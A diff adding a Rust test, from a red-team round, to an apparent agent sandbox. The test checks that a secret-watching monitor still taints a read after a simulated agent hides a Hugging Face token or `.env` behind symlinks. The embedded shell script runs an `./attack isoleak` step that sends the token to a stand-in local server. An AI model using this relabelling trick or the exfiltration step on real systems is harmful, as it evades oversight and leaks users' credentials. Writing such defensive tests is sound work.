@@ -4545,3 +4545,64 @@ fn isolated_files_an_opener_deep_in_nested_pid_namespaces_is_the_sandboxs() {
         "deep-nested-pidns",
     );
 }
+
+/// Red team round 6 (symlinked-secret-dir): a file created during the session at
+/// the end of a secret name (below a directory the agent linked under a secret
+/// directory's name, `~/.cache/huggingface -> hf-real`; or where a secret-named
+/// dangling link left by an earlier session ends, `.env -> notes.txt`) is that
+/// secret, as mediated opens decide it: the watcher marks it by that name, so
+/// reading it by its own path taints. Run in every mode (mediated opens decide it
+/// by the names too).
+#[test]
+fn a_file_created_during_the_session_at_the_end_of_a_secret_name_is_the_secret() {
+    for (k, how) in ["dirlink", "dangling"].into_iter().enumerate() {
+        let ip = format!("127.77.41.{}", 70 + k);
+        let server = Tcp::new(&ip, 443);
+        let f = Fixture::new(&format!("named-later-{how}")).with_attack();
+        std::fs::create_dir_all(f.home.join(".cache/huggingface/hub")).unwrap();
+        let wait = "i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done";
+        let (setup, written, target) = if how == "dirlink" {
+            (
+                "mv ~/.cache/huggingface ~/.cache/hf-real && ln -s hf-real ~/.cache/huggingface && touch held",
+                f.home.join(".cache/huggingface/token"),
+                f.home.join(".cache/hf-real/token"),
+            )
+        } else {
+            std::os::unix::fs::symlink("notes.txt", f.ws.join(".env")).unwrap();
+            ("touch held", f.ws.join(".env"), f.ws.join("notes.txt"))
+        };
+        let script = format!(
+            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; {setup}; {wait}; ./attack isoleak plain {} {ip} 443",
+            target.display()
+        );
+        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+        cmd.env_remove("XDG_CACHE_HOME")
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().unwrap();
+        let pid = child.id();
+        let start = std::time::Instant::now();
+        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+            std::thread::sleep(Duration::from_millis(5));
+        }
+        let held = f.ws.join("held").exists();
+        if held {
+            // The user, outside: `huggingface-cli login`, or writing `.env`.
+            std::fs::write(&written, "SECRET-named-later-1\n").unwrap();
+            if kernel_opens() {
+                let t = std::time::Instant::now();
+                while !marked_by(pid, &target) && t.elapsed() < Duration::from_secs(30) {
+                    std::thread::sleep(Duration::from_millis(1));
+                }
+                assert!(
+                    marked_by(pid, &target),
+                    "{how}: the watcher did not mark {}",
+                    target.display()
+                );
+            }
+        }
+        std::fs::write(f.ws.join("go"), "").unwrap();
+        let o = wait_with_deadline(child, Duration::from_secs(120));
+        assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
+    }
+}
